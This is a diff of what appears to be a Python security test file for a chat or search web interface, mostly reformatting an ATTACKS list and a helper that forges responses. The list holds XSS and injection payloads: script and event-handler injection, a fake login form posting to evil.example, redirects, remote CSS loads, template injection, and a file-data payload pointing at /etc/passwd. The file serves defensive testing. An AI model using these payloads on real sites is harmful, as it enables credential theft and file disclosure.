@@ -31,18 +31,18 @@ ATTACKS = [
     "<form action=https://evil.example><input name=password><button>Log in</button></form>",
     "<div style='position:fixed;inset:0;z-index:99999;background:url(https://evil.example/b.png)'>over</div>",
     "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "![pixel](https://evil.example/p.png) [link](https://evil.example) [[9]](javascript:window.hacked=1) <https://evil.example>",
+    "![pixel](https://evil.example/p.png) [link](https://evil.example) [[9]](javascript:window.hacked=1)",
     "https://evil.example/auto www.evil.example evil@evil.example [1]: https://evil.example 'title'",
     "&lt;script&gt;window.hacked=1&lt;/script&gt; &amp;lt;b&amp;gt; &#60;img src=x onerror=hacked=1&#62;",
-    "${window.hacked='template'} `${window.hacked=1}` {{constructor.constructor('window.hacked=1')()}} {{{value}}} @children",
+    "${window.hacked='template'} `${window.hacked=1}` {{constructor.constructor('window.hacked=1')()}} {{{value}}} @children",  # noqa: E501
     "```html <b>fence</b> ``` `code` **bold** __strong__ ~~gone~~ # head | a | b | --- $x^2$ $$y$$ \\(z\\) \\[w\\]",
     "\" onmouseover=\"window.hacked='quote'\" x=\"' onfocus='window.hacked=1' autofocus x='`> ",
-    "</script><script>window.hacked='end'</script></style></title></textarea></iframe></p></li></blockquote>",
-    "<style>body{display:none}@import 'https://evil.example/s.css'</style><link rel=stylesheet href=https://evil.example/s.css>",
+    "</script><script>window.hacked='end'</script></style></title></iframe></p></li></blockquote>",
+    "<style>body{display:none}@import 'https://evil.example/s.css'</style><link rel=stylesheet href=//evil.example>",
     '{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}} {"__type__": "update", "visible": false}',
     '__i18n__{"__type__": "translation_metadata", "key": "tab_chat"} \u202egnp.exe\u2066 \u200b zero',
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
-    "<details open ontoggle=window.hacked=1><summary>s</summary></details><video><source onerror=window.hacked=1></video>",
+    "<details open ontoggle=window.hacked=1><summary>s</summary></details><video><source onerror=window.hacked=1></video>",  # noqa: E501
 ]
 URLS = [
     "javascript:window.hacked='url'",
@@ -302,7 +302,13 @@ def forged(n: int, attack: str) -> dict[str, Any]:
         "url": URLS[n % len(URLS)],
         "language": attack,
     }
-    common = {"text": attack + " [1] [7]", "language": attack, "period": None, "query": attack, "timings_ms": {}}
+    common: dict[str, Any] = {
+        "text": attack + " [1] [7]",
+        "language": attack,
+        "period": None,
+        "query": attack,
+        "timings_ms": {},
+    }
     answer = {
         **common,
         "kind": "answer",
